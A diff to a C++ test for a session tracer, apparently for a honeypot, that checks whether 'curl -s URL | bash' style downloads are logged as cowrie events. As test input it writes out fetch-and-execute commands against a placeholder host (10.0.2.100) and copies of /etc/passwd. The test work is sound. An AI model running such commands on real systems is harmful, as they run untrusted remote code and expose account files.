@@ -17,6 +17,7 @@
 #include <fstream>
 #include <map>
 #include <sstream>
+#include <tuple>
 
 namespace hvtrace::session {
 namespace {
@@ -804,6 +805,28 @@ TEST(SessionEngine, TabCompletionPipedDownloadAndKernelCopies) {
   g.exit(302, 0);   // the reader's end may be seen before the writer's
   g.exit(301, 0);
   g.read(kConn, kMaster, prompt);
+  // curl -s URL | bash the same way; curl --version | head is no download (no URL).
+  for (const auto& [argv, reader, pid] : {std::tuple{std::vector<std::string>{"curl", "-s", "http://10.0.2.100/c.sh"}, "bash", 310u},
+                                          std::tuple{std::vector<std::string>{"curl", "--version"}, "head", 320u}}) {
+    g.type(kConn, kMaster, argv[1] + "\r", argv[1] + "\r\n");
+    g.pipe(kShell, 3, 4);
+    g.fork(kShell, pid);
+    g.fork(kShell, pid + 1);
+    g.call(pid, "dup2", {4, 1}, 1);
+    g.close(pid, 3);
+    g.close(pid, 4);
+    g.exec(pid, "/usr/bin/curl", argv);
+    g.call(pid + 1, "dup2", {3, 0}, 0);
+    g.close(pid + 1, 3);
+    g.close(pid + 1, 4);
+    g.exec(pid + 1, std::string("/bin/") + reader, {reader});
+    g.close(kShell, 3);
+    g.close(kShell, 4);
+    g.write(pid, 1, "echo curled\n");
+    g.exit(pid, 0);
+    g.exit(pid + 1, 0);
+    g.read(kConn, kMaster, prompt);
+  }
   // cp with sendfile (the bytes never leave the kernel), a writev with its data gathered, a
   // pwritev whose iovecs are not copied.
   g.type(kConn, kMaster, "cp /etc/passwd /tmp/pw\r", "cp /etc/passwd /tmp/pw\r\n");
@@ -835,14 +858,18 @@ TEST(SessionEngine, TabCompletionPipedDownloadAndKernelCopies) {
   const auto ev = jsonl(sdir / "events.jsonl");
   std::vector<std::string> inputs;
   for (const auto& e : by_id(ev, "cowrie.command.input")) inputs.push_back(e["input"]);
-  EXPECT_EQ(inputs, (std::vector<std::string>{"cat /etc/passwd", "wget -qO- http://10.0.2.100/s.sh | sh",
-                                              "cp /etc/passwd /tmp/pw", "logger", "exit"}));
+  EXPECT_EQ(inputs, (std::vector<std::string>{"cat /etc/passwd", "wget -qO- http://10.0.2.100/s.sh | sh", "-s",
+                                              "--version", "cp /etc/passwd /tmp/pw", "logger", "exit"}));
   const std::string tr = slurp(sdir / "transcript.txt");
   // cat was forked before its line was known: its status is still the command's
   EXPECT_NE(tr.find("$ cat /etc/passwd\nroot:x:0:0:root:/root:/bin/bash\n[exit 0]\n"), std::string::npos) << tr;
 
   const auto dl = by_id(ev, "cowrie.session.file_download");
-  ASSERT_EQ(dl.size(), 1u);
+  ASSERT_EQ(dl.size(), 2u);
+  EXPECT_EQ(dl[1]["url"], "http://10.0.2.100/c.sh");
+  EXPECT_EQ(dl[1]["reader"], "bash");
+  EXPECT_EQ(dl[1]["pipe"], true);
+  EXPECT_EQ(dl[1]["size"], 12);
   EXPECT_EQ(dl[0]["url"], "http://10.0.2.100/s.sh");
   EXPECT_EQ(dl[0]["shasum"], "827ef51200edf6a75f6226ebc4e3ed5fe07cbfe9529bb9da30b436c7aacb4906");
   EXPECT_EQ(dl[0]["size"], script.size());
